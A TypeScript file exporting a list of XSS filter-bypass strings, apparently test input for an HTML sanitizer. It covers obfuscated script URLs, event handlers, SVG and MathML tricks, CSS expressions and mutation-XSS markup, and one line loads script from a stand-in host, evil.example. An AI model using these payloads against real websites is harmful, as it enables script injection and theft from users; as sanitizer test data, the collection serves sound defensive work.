/**
 * Known ways to slip script past an HTML filter (in the style of OWASP's XSS filter
 * evasion cheat sheet): event handlers written oddly, script URLs hidden by entities,
 * whitespace and case, SVG and MathML namespaces, styles, frames, forms, meta refresh,
 * comments, CDATA and markup that parses differently the second time (mXSS).
 */
export const RICH_TEXT_BYPASSES: readonly string[] = [
  // The four.
  '<img src="x"/onerror="alert(1)">',
  '<svg/onload=alert(1)>',
  '<a/href="javascript:alert(1)">x</a>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  // Event handlers.
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</script>',
  '<img """><script>alert(1)</script>">',
  '<p onclick\t=alert(1)>x</p>',
  '<a href="https://x.nl" onmouseover="alert(1)">x</a>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<div/onmouseover="alert(1)">x</div>',
  // Script URLs.
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="jav\tascript:alert(1)">x</a>',
  '<a href=" &#14;  javascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="java&#0;script:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href=javascript:alert(1)>x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="https://x.nl" href="javascript:alert(1)">x</a>',
  // Namespaces.
  '<math href="javascript:alert(1)">x</math>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  "<svg><use href=\"data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg'&gt;&lt;image href='1' onerror='alert(1)' /&gt;&lt;/svg&gt;#x\" /></svg>",
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><script>alert(1)</script></svg>',
  // Styles.
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="width: expression(alert(1))">x</div>',
  '<p style="x:expr/**/ession(alert(1))">x</p>',
  '<xss style="behavior:url(x.htc)">x</xss>',
  "<style>@import 'javascript:alert(1)';</style>",
  '<link rel="stylesheet" href="javascript:alert(1)">',
  // Frames, objects, forms, documents.
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+">',
  '<form><button formaction="javascript:alert(1)">x</button></form>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  // Comments, CDATA and markup that changes meaning when parsed again.
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><img src=x onerror=alert(1)></template>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
];
